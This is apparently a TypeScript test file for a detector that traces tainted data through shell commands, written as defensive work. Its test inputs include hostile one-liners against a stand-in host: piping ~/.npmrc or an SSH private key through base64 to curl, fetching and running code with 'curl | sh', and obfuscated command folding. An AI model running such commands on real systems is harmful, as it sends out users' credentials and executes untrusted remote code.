import { describe, expect, it } from 'vitest'
import { COLLECTED, FETCHED, SOURCES, taint } from '../taint.ts'
import { FakeDesk, named, placed } from './fake-desk.ts'

describe('what a line is given, and gives', () => {
  const secret = taint(SOURCES.credentials, [])
  const fetched = taint(FETCHED, [])

  it.each([
    ['…', fetched, 'execute<fetched> … …'],
    ['sh -c "…"', fetched, 'execute<fetched> sh …'],
    ['curl -d "…" https://a.example', secret, 'send<credentials> curl https://a.example'],
    ['X="…"; wget "https://a.example/?$X"', secret, 'send<credentials> wget https://a.example/?…'],
  ])('%s holds what the code around it says', (line, unknown, expected) => {
    const desk = new FakeDesk()
    desk.shell(line, placed(line), unknown)
    expect(desk.lines).toContain(expected)
  })

  it.each([
    ['curl https://a.example', '<fetched>'], ['id', '<host>'], ['cat ~/.ssh/id_rsa | base64', '<encoded+credentials>'], ['echo eA== | base64 -d', '<decoded>'], ['ls', ''], ['curl https://a.example -o x', ''],
  ])('the output of %s holds %s', (line, expected) => expect(named(new FakeDesk().shell(line, placed(line)))).toBe(expected))

  it('reads words that code puts together, each with what it holds', () => {
    const desk = new FakeDesk()
    desk.program(['curl', '-d', '…', 'https://a.example'], placed(''), [taint(0, []), taint(0, []), secret])
    expect(desk.lines).toEqual(['fetch curl https://a.example', 'send<credentials> curl https://a.example'])
  })

  it('runs a file that code says it fetched', () => {
    const desk = new FakeDesk()
    desk.program(['/tmp/x'], placed(''), [fetched])
    expect(desk.lines).toEqual(['spawn<fetched> x /tmp/x'])
  })
})

it('tells the way of the data, oldest step first', () => {
  const line = 'cat ~/.npmrc | base64 | curl -d @- https://a.example'
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  const sent = desk.notes.find((note) => note.kind === 'send')
  expect((sent?.taint.bits ?? 0) & COLLECTED).toBe(SOURCES.credentials)
  expect(sent?.taint.trail.map(({ kind, call, argument }) => `${kind} ${call} ${argument}`)).toEqual(['collect cat ~/.npmrc', 'encode base64 base64'])
})

it('says where in a script a command stands', () => {
  const text = '#!/bin/sh\n\necho hi\ncurl https://a.example |\n  sh\n'
  const desk = new FakeDesk()
  desk.shell(text, { source: { path: 'x.sh', text, anchor: null }, from: 0, to: text.length })
  expect(desk.places.map(({ from, to }) => text.slice(from, to).trim())).toEqual(['curl https://a.example', 'sh'])
})

it('remembers files from one line to the next', () => {
  const desk = new FakeDesk()
  desk.shell('curl https://a.example -o /tmp/x', placed(''))
  desk.shell('sh /tmp/x', placed(''))
  expect(desk.lines).toContain('execute<fetched> sh sh /tmp/x')
})

it('hands code to the readers of other languages', () => {
  const line = `python3 -c 'import socket' && node -e "eval(1)" && node x.js && bash y.sh`
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  expect(desk.codes).toEqual([{ language: 'python', text: 'import socket' }, { language: 'javascript', text: 'eval(1)' }])
  expect(desk.opened).toEqual(['x.js', 'y.sh'])
})

it('hands folded and decoded text over for a second look', () => {
  const line = 'a=cu; ${a}rl https://a.example; echo aHR0cHM6Ly9iLmV4YW1wbGU= | base64 -d'
  const desk = new FakeDesk()
  desk.shell(line, placed(line))
  expect(desk.texts).toEqual(['folded curl https://a.example', 'decoded https://b.example'])
})

it('follows scripts of the package, in a circle once', () => {
  const desk = new FakeDesk({}, { a: 'npm run b', b: 'npm run a && curl https://a.example | sh' })
  desk.shell('npm run a', placed('npm run a'))
  expect(desk.lines).toContain('execute<fetched> sh sh')
})
